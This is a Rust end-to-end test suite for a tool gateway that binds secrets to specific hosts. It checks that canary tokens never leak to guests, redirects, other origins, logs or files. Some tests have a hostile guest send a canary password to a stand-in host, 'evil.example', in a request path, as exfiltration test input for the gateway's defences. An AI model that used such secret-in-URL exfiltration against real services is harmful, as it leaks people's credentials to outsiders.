//! Secrets: sent to their host, absent everywhere else, whatever the guest, the host or the disk do.

use std::path::Path;

use e2e::canary;
use e2e::client::Client;
use e2e::gateway::{Gateway, Written, command};
use e2e::guests;
use e2e::registry::free_address;
use e2e::site::Site;
use e2e::upstream::{Upstream, authority};
use serde_json::{Value, json};

/// What the header secret is. None of these is part of another.
const TOKEN: &str = "canary-4711-token";
/// Another, from a file.
const KEY: &str = "canary-0815-key";
/// One that the guest holds.
const PASSWORD: &str = "canary-1618-password";

/// A site with the hostile guest as `bad` under these grants.
fn site(grants: &str) -> Site {
    let site = Site::new("");
    configure(&site, grants);
    site
}

fn configure(site: &Site, grants: &str) {
    let component = |name: &str| format!("component = \"file:{}\"", guests::guest(name).display());
    site.configure(&format!(
        "[egress]\nextra-ca = \"{}\"\nfirst-byte-timeout = \"500ms\"\ntls-timeout = \"2s\"\n\
         [servers.good]\n{}\n[servers.bad]\n{}\n[servers.bad.grants]\n{grants}\n",
        authority().display(),
        component("torture"),
        component("misbehave"),
    ));
}

async fn start(site: &Site) -> (Gateway, Client) {
    let env = [("API_TOKEN", TOKEN), ("PG_PASSWORD", PASSWORD), ("TOOLGATE_LOG", "trace")];
    let gateway = Gateway::start_with(site, &env).await;
    let client = gateway.client_of("bad");
    (gateway, client)
}

fn bearer(from: &str, to: &str) -> String {
    format!("{{ from = \"{from}\", header = \"authorization\", value = \"Bearer {{}}\", to = \"{to}\" }}")
}

fn get(url: &str) -> Value {
    get_with(url, json!([]))
}

fn get_with(url: &str, headers: Value) -> Value {
    json!({ "method": "GET", "url": url, "headers": headers, "body": null })
}

/// What the guest saw of a call that the gateway did not end.
async fn seen(client: &Client, tool: &str, arguments: Value) -> String {
    let result = client.call(tool, arguments).await;
    assert!(result["_meta"]["toolgate/error"].is_null(), "{result}");
    result["content"][0]["text"].as_str().unwrap().to_owned()
}

fn hidden(secret: &str) -> String {
    "*".repeat(secret.len())
}

#[tokio::test]
async fn a_secret_reaches_its_host_and_never_the_guest() {
    let upstream = Upstream::tls();
    let origin = upstream.origin();
    let secrets = bearer("env:API_TOKEN", &origin);
    let site = site(&format!("http = [\"GET {origin}/*\"]\nsecrets = [{secrets}]"));
    let (_gateway, client) = start(&site).await;
    for path in ["/echo", "/drip"] {
        let text = seen(&client, "http", get(&format!("{origin}{path}"))).await;
        assert!(text.starts_with("200\n"), "{text}");
        assert!(text.contains(&format!("authorization: Bearer {}", hidden(TOKEN))), "{text}");
        assert!(!text.contains("canary"), "{text}");
    }
    let heard = upstream.heard();
    assert_eq!(heard.len(), 2);
    assert!(
        heard.iter().all(|head| head.contains(&format!("authorization: Bearer {TOKEN}\r\n"))),
        "{heard:?}"
    );
    let environment = seen(&client, "environment", json!({})).await;
    assert_eq!(environment, "", "the guest holds nothing of it");
}

#[tokio::test]
async fn a_guest_neither_replaces_a_secret_nor_stands_beside_it() {
    let upstream = Upstream::tls();
    let origin = upstream.origin();
    let key = format!("{{ from = \"env:API_TOKEN\", header = \"x-api-key\", to = \"{origin}\" }}");
    let site = site(&format!("http = [\"GET {origin}/*\"]\nsecrets = [{key}]"));
    let (_gateway, client) = start(&site).await;
    let headers = json!([
        ["X-Api-Key", "guess"],
        ["x-api-key", "guess"],
        ["x_api_key", "guess"],
        ["accept-encoding", "gzip"],
        ["range", "bytes=0-9"],
        ["x-other", "kept"],
    ]);
    seen(&client, "http", get_with(&format!("{origin}/echo"), headers)).await;
    let head = upstream.heard().remove(0).to_lowercase();
    assert!(head.contains(&format!("x-api-key: {TOKEN}\r\n")) && head.contains("x-other: kept"), "{head}");
    assert!(!head.contains("guess") && !head.contains("gzip") && !head.contains("range"), "{head}");
}

#[tokio::test]
async fn a_secret_goes_to_no_other_port_scheme_or_name() {
    let (upstream, other, plain) = (Upstream::tls(), Upstream::tls(), Upstream::plain());
    let (origin, port) = (upstream.origin(), upstream.address().port());
    let (in_clear, renamed) = (format!("http://127.0.0.1:{port}"), format!("https://localhost:{port}"));
    // All of them are granted: what keeps the secret away is nothing but where it is bound to.
    let site = site(&format!(
        "http = [\"GET {origin}/*\", \"GET {}/*\", \"GET {}/*\", \"GET {in_clear}/*\", \
         \"GET {renamed}/* @127.0.0.1,::1\"]\nsecrets = [{}]",
        other.origin(),
        plain.origin(),
        bearer("env:API_TOKEN", &origin),
    ));
    let (_gateway, client) = start(&site).await;
    for elsewhere in [&other.origin(), &plain.origin(), &renamed] {
        let text = seen(&client, "http", get(&format!("{elsewhere}/echo"))).await;
        assert!(text.contains("x-echo: none"), "{text}");
    }
    let host = format!("host: localhost:{port}\r\n");
    assert!(upstream.heard().iter().all(|head| head.contains(&host)), "{:?}", upstream.heard());
    // To the very port and in clear text. It is no TLS, so it is no request; but it came.
    seen(&client, "http", get(&format!("{in_clear}/in-clear"))).await;
    let received = [upstream.received(), other.received(), plain.received()].concat();
    assert_eq!(received.iter().filter(|bytes| bytes.contains("GET /in-clear")).count(), 1, "{received:?}");
    let heard = [upstream.heard(), other.heard(), plain.heard()].concat();
    assert_eq!(heard.len(), 3);
    for text in [heard, received].concat() {
        assert_eq!(canary::found(TOKEN, &text), [""; 0], "{text}");
    }
    seen(&client, "http", get(&format!("{origin}/echo"))).await;
    assert!(upstream.heard()[1].contains(TOKEN), "where it is bound to, it goes");
}

#[tokio::test]
async fn a_redirect_takes_no_secret_along() {
    let (upstream, other) = (Upstream::tls(), Upstream::tls());
    let site = Site::new("");
    site.configure(&format!(
        "[egress]\nextra-ca = \"{}\"\n[servers.bad]\ncomponent = \"file:{}\"\n[servers.bad.grants]\n\
         http = [\"GET {}/*\", \"GET {}/*\"]\nsecrets = [{}]\n",
        authority().display(),
        guests::tool("fetch").display(),
        upstream.origin(),
        other.origin(),
        bearer("env:API_TOKEN", &upstream.origin()),
    ));
    let (_gateway, client) = start(&site).await;
    let url = format!("{}/redirect?{}/echo", upstream.origin(), other.origin());
    let result = client.call("fetch", json!({ "url": url })).await;
    assert_eq!(result["isError"], false, "{result}");
    assert!(upstream.heard()[0].contains(TOKEN), "the first request has it");
    assert_eq!(other.heard().len(), 1, "the redirect was followed");
    assert!(!other.heard()[0].contains("authorization"), "{:?}", other.heard());
}

#[tokio::test]
async fn a_file_is_read_again_and_a_lost_one_fails_only_what_needs_it() {
    let (upstream, other) = (Upstream::tls(), Upstream::plain());
    let origin = upstream.origin();
    let http = format!("http = [\"GET {origin}/*\", \"GET {}/*\"]", other.origin());
    let site = site(&format!("{http}\nsecrets = [{}]", bearer("file:mounted/key", &origin)));
    let mounted = site.path("mounted");
    let publish = |version: &str, key: &str| {
        site.write(&format!("versions/{version}/key"), format!("{key}\n"));
        let next = site.path("next");
        std::os::unix::fs::symlink(format!("versions/{version}"), &next).unwrap();
        std::fs::rename(next, &mounted).unwrap();
    };
    publish("1", "canary-first-key");
    let (gateway, client) = start(&site).await;
    let url = format!("{origin}/echo");
    seen(&client, "http", get(&url)).await;
    publish("2", "canary-second-key");
    seen(&client, "http", get(&url)).await;
    let heard = upstream.heard();
    assert!(heard[0].contains("canary-first-key") && heard[1].contains("canary-second-key"), "{heard:?}");
    for broken in [None, Some("canary\u{7}bell"), Some("short"), Some("")] {
        std::fs::remove_file(site.path("versions/2/key")).unwrap_or_default();
        if let Some(content) = broken {
            site.write("versions/2/key", content);
        }
        let text = seen(&client, "http", get(&url)).await;
        assert!(text.contains("ConfigurationError"), "{broken:?}: {text}");
        let text = seen(&client, "http", get(&format!("{}/echo", other.origin()))).await;
        assert!(text.starts_with("200"), "{text}");
    }
    assert_eq!(upstream.heard().len(), 2, "nothing is sent without its secret");
    for reason in
        ["No such file", "it holds a control character", "it is shorter than 8 bytes", "it is empty"]
    {
        gateway.logged(reason).await;
    }
    publish("3", "canary-third-key");
    seen(&client, "http", get(&url)).await;
    assert!(upstream.heard()[2].contains("canary-third-key"));
    assert!(!gateway.log().contains("canary"), "{}", gateway.log());
}

#[tokio::test]
async fn a_guest_holds_a_secret_only_by_an_explicit_key() {
    let site = site(
        "env = { PGUSER = \"tool\" }\nsecrets = [{ from = \"env:PG_PASSWORD\", env = \"PGPASSWORD\" }, \
         { from = \"file:pem\", env = \"PEM\" }]",
    );
    site.write("pem", "-----BEGIN-----\ncanary-2236-line\n-----END-----\n");
    let (gateway, client) = start(&site).await;
    let environment = seen(&client, "environment", json!({})).await;
    let expected =
        format!("PEM=-----BEGIN-----\ncanary-2236-line\n-----END-----\nPGPASSWORD={PASSWORD}\nPGUSER=tool");
    assert_eq!(environment, expected);
    // What it prints and what it tries is told without them, at every level.
    for line in [format!("password is {PASSWORD}!"), "x canary-2236-line".to_owned()] {
        seen(&client, "print-lines", json!({ "to-stderr": true, "line": line, "count": 1 })).await;
    }
    seen(&client, "http", get(&format!("https://evil.example/{PASSWORD}"))).await;
    client.call("panic", json!({ "message": format!("can't log in with {PASSWORD}") })).await;
    gateway.logged(&format!("password is {}!", hidden(PASSWORD))).await;
    gateway.logged(&format!("evil.example/{}", hidden(PASSWORD))).await;
    let log = gateway.logged(&format!("can't log in with {}", hidden(PASSWORD))).await;
    assert!(!log.contains("canary"), "{log}");

    std::fs::remove_file(site.path("pem")).unwrap();
    let result = client.call("count", json!({})).await;
    assert_eq!(result["_meta"]["toolgate/error"], "unavailable", "{result}");
    assert!(!result.to_string().contains("pem"), "the caller is told no paths: {result}");
    gateway.logged("the secret PEM in the environment from file:").await;
    let good = gateway.client_of("good").list().await;
    assert!(!good.is_empty(), "others are not affected");
    site.write("pem", "canary-back-again");
    assert!(seen(&client, "environment", json!({})).await.contains("canary-back-again"));
}

#[tokio::test]
async fn the_configuration_has_a_secret_only_by_an_explicit_key() {
    let site = Site::new("");
    let component = site.write("config-store.wasm", guests::wat("config-store"));
    let server = |name: &str, grants: &str| {
        let component = component.display();
        format!("[servers.{name}]\ncomponent = \"file:{component}\"\n[servers.{name}.grants]\n{grants}\n")
    };
    let holder = server("holder", "secrets = [{ from = \"env:PG_PASSWORD\", env = \"KEY\" }]");
    let origin = "https://api.example.com";
    let bound = bearer("env:PG_PASSWORD", origin);
    let other = format!("env = {{ LANG = \"eo\" }}\nhttp = [\"GET {origin}/*\"]\nsecrets = [{bound}]");
    site.configure(&(holder + &server("other", &other)));
    let env = [("PG_PASSWORD", PASSWORD), ("TOOLGATE_LOG", "trace")];
    let gateway = Gateway::start_with(&site, &env).await;
    let all = async |server: &str| {
        let all = gateway.client_of(server).call("get-all", json!({})).await;
        all["structuredContent"]["result"].clone()
    };
    assert_eq!(all("holder").await, json!([["KEY", PASSWORD]]));
    assert_eq!(all("other").await, json!([["LANG", "eo"]]), "what is bound to a host is not the guest's");
    for (server, key, value) in [
        ("holder", "KEY", json!(PASSWORD)),
        ("holder", "key", json!(null)),
        ("holder", "KEY ", json!(null)),
        ("holder", "PG_PASSWORD", json!(null)),
        ("holder", "env:PG_PASSWORD", json!(null)),
        ("other", "KEY", json!(null)),
        ("other", "PG_PASSWORD", json!(null)),
        ("other", "authorization", json!(null)),
    ] {
        let got = gateway.client_of(server).call("get", json!({ "key": key })).await;
        assert_eq!(got["structuredContent"], json!({ "result": value }), "{server} {key}: {got}");
    }
    let Written { log, stdout, .. } = gateway.written();
    assert_eq!(log.matches("\"tool\":\"get\"").count(), 8, "each call is in the log:\n{log}");
    let wrote = [log, stdout].into_iter().chain(files_below(&site.path("state")));
    for text in wrote {
        assert_eq!(canary::found(PASSWORD, &text), [""; 0], "{text}");
    }
}

#[tokio::test]
async fn a_server_whose_secret_is_missing_is_unavailable_and_says_why() {
    let site = site("secrets = [{ from = \"file:no-such-file\", env = \"PGPASSWORD\" }]");
    let (gateway, client) = start(&site).await;
    let reply = client.try_call("count", json!({})).await;
    assert_eq!(reply["result"]["_meta"]["toolgate/error"], "unavailable", "{reply}");
    assert!(!reply.to_string().contains("no-such-file"), "{reply}");
    gateway.logged("no-such-file can't be used: it can't be read: No such file").await;
    assert!(!gateway.client_of("good").list().await.is_empty(), "others serve");
}

/// Every text that anybody gets to see while everything goes wrong that can.
#[tokio::test]
async fn nothing_that_the_process_ever_wrote_has_a_secret_in_it() {
    let (upstream, impostor) = (Upstream::tls(), Upstream::tls_for_another_name());
    let closed = format!("https://{}", free_address());
    let origins = [upstream.origin(), impostor.origin(), closed];
    let http: Vec<_> = origins.iter().map(|origin| format!("\"GET,POST {origin}/*\"")).collect();
    let headers = origins.iter().map(|origin| bearer("env:API_TOKEN", origin));
    let keys =
        origins.iter().map(|to| format!("{{ from = \"file:key\", header = \"x-api-key\", to = \"{to}\" }}"));
    let password = "{ from = \"env:PG_PASSWORD\", env = \"PGPASSWORD\" }".to_owned();
    let secrets: Vec<_> = headers.chain(keys).chain([password]).collect();
    let grants = format!("http = [{}]\nsecrets = [{}]", http.join(", "), secrets.join(", "));
    let site = site(&format!("{grants}\n[servers.bad.limits]\ndeadline = \"2s\"\nfuel = 1_000_000_000"));
    site.write("key", KEY);
    let (gateway, client) = start(&site).await;
    let mut written = Vec::new();
    for origin in &origins {
        for path in
            ["/echo", "/drip", "/cut", "/gzip", "/garbage", "/silent", "/redirect?https://evil.example/"]
        {
            let reply = client.try_call("http", get(&format!("{origin}{path}"))).await;
            written.push(reply.to_string());
        }
    }
    for (tool, arguments) in [
        ("http", get(&format!("https://evil.example/{PASSWORD}"))),
        ("http-many", json!({ "url": format!("{}/silent", origins[0]), "count": 40 })),
        ("http-upload", json!({ "url": format!("{}/echo", origins[0]), "bytes": 20_000_000 })),
        ("http-raw", json!({ "scheme": "https", "authority": "a@b", "path": "//x" })),
        ("panic", json!({ "message": PASSWORD })),
        ("print-lines", json!({ "to-stderr": false, "line": PASSWORD, "count": 3 })),
        ("unreachable", json!({})),
        ("spin", json!({})),
        ("sleep-for", json!({ "milliseconds": 5000 })),
        ("no-such-tool", json!({})),
        ("http", json!({ "method": 1 })),
    ] {
        written.push(client.try_call(tool, arguments).await.to_string());
    }
    assert!(upstream.heard().iter().any(|head| head.contains(TOKEN) && head.contains(KEY)), "they were sent");
    assert!(impostor.heard().is_empty(), "an impostor hears nothing");
    site.write("key", format!("{KEY}\u{0}"));
    written.push(client.try_call("http", get(&format!("{}/echo", origins[0]))).await.to_string());
    site.write("key", KEY);
    for path in ["/livez", "/readyz", "/health"] {
        written.push(reqwest::get(gateway.url(path)).await.unwrap().text().await.unwrap());
    }
    for args in
        [&["check"][..], &["check", "--json"], &["list"], &["inspect", "bad"], &["call", "bad__count"]]
    {
        written.push(output(&site, args));
    }
    // A config with faults, in front of and behind each secret.
    configure(&site, &format!("{grants}\nenv = {{ PGPASSWORD = \"${{PG_PASSWORD}}\" }}\nhtpp = []"));
    written.push(output(&site, &["check"]));
    configure(&site, &format!("{grants}\nhttp = [\"${{API_TOKEN}}\"]"));
    written.push(output(&site, &["serve"]));
    let Written { log, stdout, .. } = gateway.written();
    assert!(log.lines().count() > 50, "the log is there:\n{log}");
    written.extend([log, stdout]);
    written.extend(files_below(&site.path("state")));
    for text in &written {
        for secret in [TOKEN, KEY, PASSWORD] {
            assert_eq!(canary::found(secret, text), [""; 0], "{text}");
        }
    }
}

/// What a command prints, on both streams.
fn output(site: &Site, args: &[&str]) -> String {
    let mut command = command(site);
    command.args(args).env("API_TOKEN", TOKEN).env("PG_PASSWORD", PASSWORD).env("TOOLGATE_LOG", "trace");
    let output = command.output().unwrap();
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    text(&output.stdout) + &text(&output.stderr)
}

fn files_below(folder: &Path) -> Vec<String> {
    let mut texts = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            texts.extend(files_below(&path));
        } else {
            texts.push(String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned());
        }
    }
    texts
}
